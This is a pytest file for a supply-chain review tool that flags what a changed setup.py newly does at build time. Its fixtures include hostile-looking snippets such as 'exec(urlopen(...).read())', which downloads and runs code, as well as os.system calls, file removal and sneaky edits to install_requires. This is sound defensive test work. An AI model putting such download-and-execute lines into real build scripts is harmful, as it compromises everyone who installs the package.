"""What a setup.py newly does, and arguments of it that cannot be told."""

from __future__ import annotations

import pytest

from tests.comparators.analysis.findings.cases import lines

SCRIPT = (
    "from setuptools import setup\n{}\n"
    "setup(name='p', version='1', install_requires=NEEDS, packages=P)\n"
)
VALUE = "NEEDS = ['requests']\nP = ['p']"
UNTOLD = {
    "bound by a loop": "for NEEDS in [['evil']]: pass",
    "item set": "NEEDS[:] = ['evil']",
    "by another name": "X = NEEDS; X.append('evil')",
    "walrus": "(NEEDS := ['evil'])",
    "match": "match ['evil']:\n    case NEEDS: pass",
    "all names of a module": "from evil import *",
    "own module": "import evil",
    "decorator": "@NEEDS.append\nclass A: pass",
    "f-string": "f'{NEEDS.append(1)}'",
    "comprehension": "[NEEDS.append(x) for x in ['evil']]",
    "unpacking": "*_, NEEDS = 1, ['evil']",
    "unknown keywords": "from setuptools import setup as s\ns(**NEEDS)",
}


def findings(old: str, new: str) -> list[str]:
    sides = [
        {"setup.py": SCRIPT.format(one).encode(), "p/__init__.py": b""}
        for one in (old, new)
    ]
    return lines(*sides, "runs-at-build")


@pytest.mark.parametrize("added", UNTOLD.values(), ids=UNTOLD)
def test_what_cannot_be_told_any_more(added: str) -> None:
    [found] = [
        one
        for one in findings(VALUE, f"{VALUE}\n{added}")
        if one.startswith("review")
    ]
    assert "only running it tells its " in found
    assert "install_requires" in found


def test_what_an_argument_depends_on_changed() -> None:
    rest = "P = ['p']\n"
    old = f"{rest}NEEDS = needs('a')"
    assert findings(old, f"{rest}NEEDS = needs('b')") == [
        "note runs-at-build setup.py:4 only running it tells its "
        "install_requires, which may have changed"
    ]
    assert findings(old, f"import os\n{old}\nX = 1") == []
    old = f"exec(open('a').read(), d)\n{old}"
    assert findings(old, old.replace("open('a')", "open('b')")) == [
        "review runs-at-build setup.py:2 calls builtins.exec"
    ]


@pytest.mark.parametrize(
    "new",
    [
        "NEEDS = ['requests', 'six']\nP = ['p']",
        "NEEDS = ['requests']\nP = find_packages()",
        "import os\nNEEDS = ['requests']\nP = ['p']",
    ],
    ids=["another value", "packages", "harmless import"],
)
def test_what_can_be_told_is_silent(new: str) -> None:
    assert findings(VALUE, new) == []


def test_an_added_script_has_no_argument_of_before() -> None:
    script = {"setup.py": SCRIPT.format("NEEDS = f()").encode()}
    assert not [one for one in lines({}, script) if "only running" in one]


SCRIPTS = {
    "what is downloaded and executed": (
        "from urllib.request import urlopen\n"
        "exec(urlopen('http://a.org').read())\n",
        [
            "alert setup.py:5 builtins.exec executes what was downloaded",
        ],
    ),
    "what is downloaded first": (
        "from urllib.request import urlopen\n"
        "text = urlopen('http://a.org').read()\nexec(text)\n",
        [
            "alert setup.py:6 builtins.exec executes what was downloaded",
            "alert setup.py:5 calls urllib.request.urlopen",
        ],
    ),
    "a function that is passed on": (
        "import os\nlist(map(os.system, ['x']))\n",
        ["review setup.py:5 uses os.system"],
    ),
    "a program": (
        "import subprocess\nsubprocess.run(['make'])\n",
        ["review setup.py:5 calls subprocess.run"],
    ),
    "a command of its own": (
        "setup(cmdclass={'install': Install})\n",
        ["review setup.py:4 newly has cmdclass"],
    ),
    "another call": ("prepare()\n", ["note setup.py:4 newly calls prepare"]),
    "a function of a module": (
        "import os\nos.remove('x')\n",
        ["note setup.py:5 newly calls remove"],
    ),
    "a method of a path": (
        "from pathlib import Path\nPath('x').write_text('')\n",
        ["note setup.py:5 newly calls write_text"],
    ),
    "methods of texts and of what is found in them": (
        "import re\nm = re.match('(.)', 'x').groups()\n"
        "for a in open('v'):\n    m = m + a.casefold().splitlines()\n",
        [],
    ),
    "values": ("v = open('v').read().strip()\nx = {'a': [1, 2]}\n", []),
}


@pytest.mark.parametrize(("new", "expected"), SCRIPTS.values(), ids=SCRIPTS)
def test_setup_scripts(new: str, expected: list[str]) -> None:
    old = "from setuptools import setup\n\nsetup(name='p')\n"
    result = lines(
        {"setup.py": old.encode()},
        {"setup.py": (old + new).encode()},
    )
    assert result == [
        line.replace(" ", " runs-at-build ", 1) for line in expected
    ]
    both = {"setup.py": (old + new).encode()}
    assert lines(both, both | {"README": b""}) == []
